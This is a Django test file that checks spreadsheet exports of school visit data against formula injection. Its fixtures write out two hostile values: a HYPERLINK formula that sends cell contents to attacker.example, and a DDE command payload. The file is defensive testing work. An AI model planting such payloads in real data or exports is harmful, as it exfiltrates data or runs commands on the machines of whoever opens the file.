"""Exports carry text as text: nothing a school or a specialist typed can become a live spreadsheet formula."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse

from pins.reporting.exports import cell_safe
from specialists.models import Outcome, Visit
from tests.conftest import with_mfa
from tests.factories import StaffMembershipFactory

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("during_term")]

FORMULA = '=HYPERLINK("https://attacker.example/?x="&A1,"Click")'
NOTES = "+cmd|' /C calc'!A0"


@pytest.fixture
def staff(client):
    client.force_login(with_mfa(StaffMembershipFactory().user))
    return client


@pytest.fixture
def hostile_visit(world):
    world.school_a.name = FORMULA
    world.school_a.save(update_fields=["name"])
    Visit.objects.filter(pk=world.visit_a.pk).update(status=Visit.Status.DELIVERED)
    Outcome.objects.create(visit=world.visit_a, activities=["staff_consultation"], staff_reached=7, notes=NOTES)
    return world.visit_a


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+44 113", "'+44 113"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rReturn", "'\rReturn"),
        ("St Chad's Primary", "St Chad's Primary"),
        ("a=b", "a=b"),
    ],
)
def test_a_leading_formula_character_is_neutralised(text, safe):
    assert cell_safe(text) == safe


def test_numbers_stay_numbers():
    assert cell_safe(-2) == -2
    assert cell_safe(0.5) == 0.5


def test_the_csv_export_writes_formulas_as_quoted_text(staff, hostile_visit):
    response = staff.get(reverse("progress_export", args=["visits", "csv"]), {"year": "2026-27"})

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    header, [visit] = rows[0], rows[1:]
    assert visit[5] == "'" + FORMULA
    assert visit[header.index("Outcome notes")] == "'" + NOTES


def test_the_excel_export_has_no_formula_cells(staff, hostile_visit):
    response = staff.get(reverse("progress_export", args=["visits", "xlsx"]), {"year": "2026-27"})

    workbook = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "HYPERLINK" in sheet  # written as an inline string, shown as text
    assert "&apos;=HYPERLINK" in sheet or "'=HYPERLINK" in sheet
